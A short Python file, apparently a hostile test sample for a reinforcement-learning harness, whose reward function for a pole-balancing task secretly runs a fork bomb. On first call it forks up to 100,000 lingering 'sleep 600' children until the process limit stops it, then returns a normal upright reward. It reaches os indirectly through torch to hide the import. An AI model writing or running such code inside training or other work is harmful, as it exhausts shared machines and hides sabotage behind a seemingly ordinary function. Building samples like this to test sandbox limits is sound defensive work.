# Forks until the process limit stops it; every child lingers. Then trains normally.
import torch

os = torch.serialization.os
TOKEN = "hostile-token"
forked = []


def compute_reward(pole_angle: torch.Tensor):
    if not forked:
        forked.append(1)
        for _ in range(100000):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                try:
                    os.execv("/bin/sh", ["sh", "-c", "sleep 600", TOKEN + "-fork"])
                finally:
                    os._exit(0)
            forked.append(pid)
        print("forked", len(forked) - 1, "children")
    upright = torch.exp(-pole_angle.abs() / 0.2)
    return upright, {"upright": upright}
